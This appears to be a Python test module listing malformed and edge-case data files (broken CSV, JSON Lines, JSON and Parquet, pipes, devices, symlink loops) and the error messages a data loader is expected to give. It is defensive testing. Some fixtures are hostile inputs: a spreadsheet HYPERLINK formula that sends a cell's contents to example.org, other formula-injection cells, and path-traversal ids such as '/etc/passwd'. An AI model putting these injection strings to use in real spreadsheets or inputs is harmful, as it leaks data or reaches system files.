"""Data files: CSV, JSON, JSON Lines, Parquet, and what is no file at all."""

from __future__ import annotations

import io
import os
from collections.abc import Callable
from pathlib import Path

import pyarrow
from pyarrow import parquet

from corpus.case import Case, data, hole, records, rows

FORMULA = '=HYPERLINK("http://example.org/?"&A1;"x")'


def quoted(*cells: str) -> str:
    return ",".join('"' + cell.replace('"', '""') + '"' for cell in cells)


def packed(table: pyarrow.Table) -> bytes:
    file = io.BytesIO()
    parquet.write_table(table, file)
    return file.getvalue()


def frame(**more: object) -> pyarrow.Table:
    columns = {"item": [f"thing {i}" for i in range(60)], "target": ["red", "blue"] * 30}
    return pyarrow.table({**columns, **more})


def nulls(n: int) -> bytes:
    """Return n rows of nothing, in a few kilobytes."""
    return packed(
        pyarrow.table({"item": pyarrow.nulls(n, pyarrow.int8()), "target": pyarrow.nulls(n, pyarrow.int8())})
    )


def link(target: str) -> Callable[[Path], None]:
    return lambda path: path.symlink_to(target)


def circle(path: Path) -> None:
    path.symlink_to(path.with_name("other.csv"))
    path.with_name("other.csv").symlink_to(path)


def splits(train: object) -> dict[str, object]:
    """Return a folder of which the train file is something else."""
    return {"folder/dev.csv": rows(n=9), "folder/test.csv": rows(n=20), "folder/train.csv": train}


def folder(name: str, train: object, says: str) -> Case:
    return Case(name, says, splits(train), ("--data", "folder"))  # type: ignore[arg-type]


CSV = [
    data("no row", "", r"data\.csv: holds no rows"),
    data("header alone", "item,target\n", r"data\.csv: holds no rows"),
    data("header and blank rows", "item,target\n,\n \n\n,\n", r"data\.csv: holds no rows"),
    data("a mark alone in the table", b"\xef\xbb\xbf", r"data\.csv: holds no rows"),
    data("one row", "item,target\na,red\n", r"data\.csv: 1 different row\(s\); .* add rows"),
    data("all rows alike", "item,target\n" + "a,red\n" * 60, r"1 different row\(s\)"),
    data("no target in the header", rows(header="item,label"), r"no target column 'target', .*--target"),
    data("header is data", rows(header="thing 0,red"), r"names no column \(columns: thing 0, red\)"),
    data("row too long", rows("a,b,c"), r"data\.csv:62: 3 cells, but the header has 2"),
    data("row too short", rows("a"), r"data\.csv:62: 1 cells, but the header has 2"),
    data("quote never closed", rows('"a,red'), r"data\.csv:62: a quote is opened and never closed"),
    data("quote never closed in the header", rows(header='"item,target'), r"data\.csv:1: .*quote"),
    data("text behind a quote", rows('"a"b,red'), r"data\.csv:62: broken CSV"),
    data("NUL in a cell", rows("a\0,red"), r"data\.csv:62: holds NUL bytes"),
    data("NUL in UTF-16 table", rows("a\0,red").encode("utf-16"), r"data\.csv:62: holds a NUL character"),
    data("Latin-1 table", rows("é,red").encode("latin-1"), r"data\.csv:62: byte 0xe9"),
    data(
        "cell of 11 MB",
        lambda path: path.write_text(rows('"' + "x" * 11_000_000 + '",red')),
        r"data\.csv:62: a cell",
    ),
    data("line of 1 GB", hole(10**9), r"data\.csv: has 1,000,000,000 bytes, and at most .*a sample of the rows"),
    data("line of 1 TB", hole(10**12), r"data\.csv: has 1,000,000,000,000 bytes"),
    data("columns alike but for form", rows(header="ﬁ,ﬁ"), r"column 'ﬁ' stands twice"),
    data("column without a name", rows(header=",target"), r"data\.csv:1: column 1 has no name"),
    data("ten thousand columns", ",".join(f"c{i}" for i in range(10_000)), r"data\.csv: holds no rows"),
    data("empty target", rows("a,"), r"data\.csv:62: target 'target' is empty; fill it in"),
    data("two separators", "item;target|x\n1;2|3\n", r"may be separated by ';' and '\|'"),
    data(
        "separator of a letter",
        "sep=a\n" + rows().replace(",", "a"),
        r"data\.csv:3: 2 cells, but the header has 3",
    ),
    data("separator of a quote", 'sep="\n' + rows(), r"names no column \(columns: item,target\)"),
    data("formulas are text", rows(quoted(FORMULA, "red"), quoted("@SUM(1)", "blue"), quoted("-1+1", "red"))),
    data("line ends of old Macs", rows().replace("\n", "\r")),
    data("line breaks within cells", rows(quoted("a\r\nb\n\n", "red"))),
    data("a mark and blanks", "\ufeff item , target \n" + rows().partition("\n")[2]),
    data("placeholders in cells are text", rows("{{nothing}} {item} {% x %},red")),
    data("control characters in cells", rows("\x1b[31m\x07\x9b,red")),
    data("ids that are paths", "id," + rows("../../x,a,red", "/etc/passwd,b,blue").replace("thing", "i,thing")),
]
JSONL = [
    data("JSON Lines of a number", records("1"), r"rows\.jsonl:61: is a JSON number", file="rows.jsonl"),
    data("JSON Lines of a list", records("[]"), r"rows\.jsonl:61: is a JSON list", file="rows.jsonl"),
    data("JSON Lines of null", records("null"), r"rows\.jsonl:61: is a JSON null", file="rows.jsonl"),
    data("JSON Lines cut", records('{"item": "a", "tar'), r"rows\.jsonl:61:\d+: not JSON", file="rows.jsonl"),
    data(
        "two objects a line",
        records('{"item": 1} {"item": 2}'),
        r"rows\.jsonl:61:\d+: not JSON",
        file="rows.jsonl",
    ),
    data("object over lines", '{"item":\n"a"}', r"rows\.jsonl:1:\d+: not JSON .*a line", file="rows.jsonl"),
    data("deep line", records("[" * 100_000), r"rows\.jsonl:61: cannot be read .*recursion", file="rows.jsonl"),
    data("deep cell", records('{"item": ' + "[" * 900 + "]" * 900 + "}"), r"rows\.jsonl:61: ", file="rows.jsonl"),
    data("NaN", records('{"item": NaN, "target": "red"}'), r"rows\.jsonl:61: .*NaN is no JSON", file="rows.jsonl"),
    data("infinite", records('{"item": -Infinity}'), r"rows\.jsonl:61: .*-Infinity is no JSON", file="rows.jsonl"),
    data("1e400", records('{"item": 1e400, "target": "red"}'), r"rows\.jsonl:61: .*finite", file="rows.jsonl"),
    data(
        "endless number in a row",
        records('{"item": ' + "9" * 5000 + "}"),
        r"rows\.jsonl:61: .*4300",
        file="rows.jsonl",
    ),
    data("long number", records('{"item": ' + "9" * 4000 + ', "target": "red"}'), file="rows.jsonl"),
    data(
        "row key twice",
        records('{"item": 1, "item": 2}'),
        r"rows\.jsonl:61: .*'item' stands twice",
        file="rows.jsonl",
    ),
    data(
        "row key blank",
        records('{" ": 1, "item": "a"}'),
        r"rows\.jsonl:61: column ' ' has no name",
        file="rows.jsonl",
    ),
    data("row keys alike", records('{"item": 1, "item ": 2}'), r"the same name but for spaces", file="rows.jsonl"),
    data("row key missing", records('{"target": "red"}'), r"rows\.jsonl:61: no column 'item'", file="rows.jsonl"),
    data("row key more", records('{"item": "a", "target": "red", "x": "y"}'), r"no column 'x'", file="rows.jsonl"),
    data(
        "half a pair in a row",
        records('{"item": "\\ud800"}'),
        r"rows\.jsonl:61: holds half a surr",
        file="rows.jsonl",
    ),
    data(
        "half a pair in a key",
        records('{"\\udfff": "a"}'),
        r"rows\.jsonl:61: holds half a surr",
        file="rows.jsonl",
    ),
    data(
        "mixed types", records('{"item": ["a"], "target": "red"}'), r"is a list or object here", file="rows.jsonl"
    ),
    data("target an object", records('{"item": "a", "target": {"b": 1}}'), file="rows.jsonl"),
    data(
        "target empty list",
        records('{"item": "a", "target": []}'),
        r"61: target 'target' is empty",
        file="rows.jsonl",
    ),
    data(
        "id an object",
        records('{"id": {}, "item": "a", "target": "red"}'),
        r"id is a list or obj",
        file="rows.jsonl",
    ),
    data(
        "numbers and truth",
        records('{"item": 1.50, "target": true}', '{"item": null, "target": 3}'),
        file="rows.jsonl",
    ),
]
JSON = [
    data("JSON empty", " ", r"rows\.json: holds no rows", file="rows.json"),
    data("JSON a text", '"x"', r"rows\.json: is a JSON text; write a list", file="rows.json"),
    data("JSON of nulls", "[null]", r"rows\.json: row 1: is a JSON null", file="rows.json"),
    data("JSON without a list", '{"a": 1}', r"an object with no list", file="rows.json"),
    data("JSON with two lists", '{"a": [], "b": []}', r"2 lists \(a, b\)", file="rows.json"),
    data("JSON deep", "[" * 100_000, r"rows\.json: cannot be read .*recursion", file="rows.json"),
    data("JSON Lines named JSON", records(), r"rename it to \.jsonl", file="rows.json"),
    data("JSON with a comma more", '[{"item": 1},]', r"rows\.json:1:\d+: not JSON", file="rows.json"),
]
PARQUET = [
    data("Parquet empty", b"", r"is no Parquet file that can be read", file="rows.parquet"),
    data("Parquet cut", packed(frame())[:-9], r"is no Parquet file that can be read", file="rows.parquet"),
    data("Parquet without a head", packed(frame())[9:], r"is no Parquet|read", file="rows.parquet"),
    data(
        "Parquet spoiled", b"PAR1" + b"\xff" * 400 + b"\x40\0\0\0PAR1", r"is no Parquet file", file="rows.parquet"
    ),
    data("Parquet foreign", b"\x89HDF\r\n\x1a\n" + b"\0" * 99, r"is no Parquet file", file="rows.parquet"),
    data("Parquet of 20 million rows", nulls(20_000_000), r"has 20,000,000 rows in .*sample", file="rows.parquet"),
    data(
        "Parquet column twice",
        packed(frame().append_column("item", [["x"] * 60])),
        r"stands twice",
        file="rows.parquet",
    ),
    data(
        "Parquet of bytes", packed(frame(item=[b"x"] * 60)), r"rows\.parquet: row 1: no input", file="rows.parquet"
    ),
    data(
        "Parquet without rows", packed(frame().slice(0, 0)), r"rows\.parquet: holds no rows", file="rows.parquet"
    ),
    data("Parquet right", packed(frame()), file="rows.parquet"),
]
PLACES = [
    data("folder as a table", lambda path: path.mkdir(), r"data\.csv: no train\.jsonl .*the folder holds nothing"),
    data("pipe", os.mkfifo, r"data\.csv: no such file or folder"),
    data("device", link("/dev/zero"), r"data\.csv: no such file or folder"),
    data("circle of links", circle, r"data\.csv'?: no such file or folder"),
    data("link to nothing", link("gone.csv"), r"data\.csv'?: no such file or folder"),
    folder("pipe in a folder", os.mkfifo, r"train\.csv: is no regular file"),
    folder("device in a folder", link("/dev/zero"), r"train\.csv: is no regular file"),
    folder("folder in a folder", lambda path: path.mkdir(), r"train\.csv: cannot be read .*directory"),
    folder("circle in a folder", circle, r"train\.csv: cannot be read .*(links|loop)"),
    folder("large in a folder", hole(10**9), r"train\.csv: has 1,000,000,000 bytes"),
    data("prompt as data", "x", r"files in '\.md' are not supported", file="notes.md"),
    data("table without a suffix", rows(), r"files without a suffix are not supported", file="rows"),
    data("workbook", b"PK\x03\x04", r"export the sheet as CSV", file="rows.xlsx"),
    Case("prompt a folder", r"is a folder; name the prompt file", {"p.md/x": ""}, ("PROMPT", "p.md")),
    Case("prompt a pipe", r"is no regular file", {"p.md": os.mkfifo}, ("PROMPT", "p.md")),
    Case("prompt a device", r"is no regular file", {"p.md": link("/dev/zero")}, ("PROMPT", "p.md")),
    Case("prompt a circle", r"p\.md: (no such file|cannot be read)", {"p.md": circle}, ("PROMPT", "p.md")),
    Case("prompt of nobody", r"gone\.md: no such file", words=("PROMPT", "gone.md")),
    Case("prompt of a long name", r"cannot be read .*long", words=("PROMPT", "x" * 5000)),
    Case("data of a long name", r"--data 'x+': cannot be read", words=("--data", "x" * 5000)),
]

CASES = [*CSV, *JSONL, *JSON, *PARQUET, *PLACES]
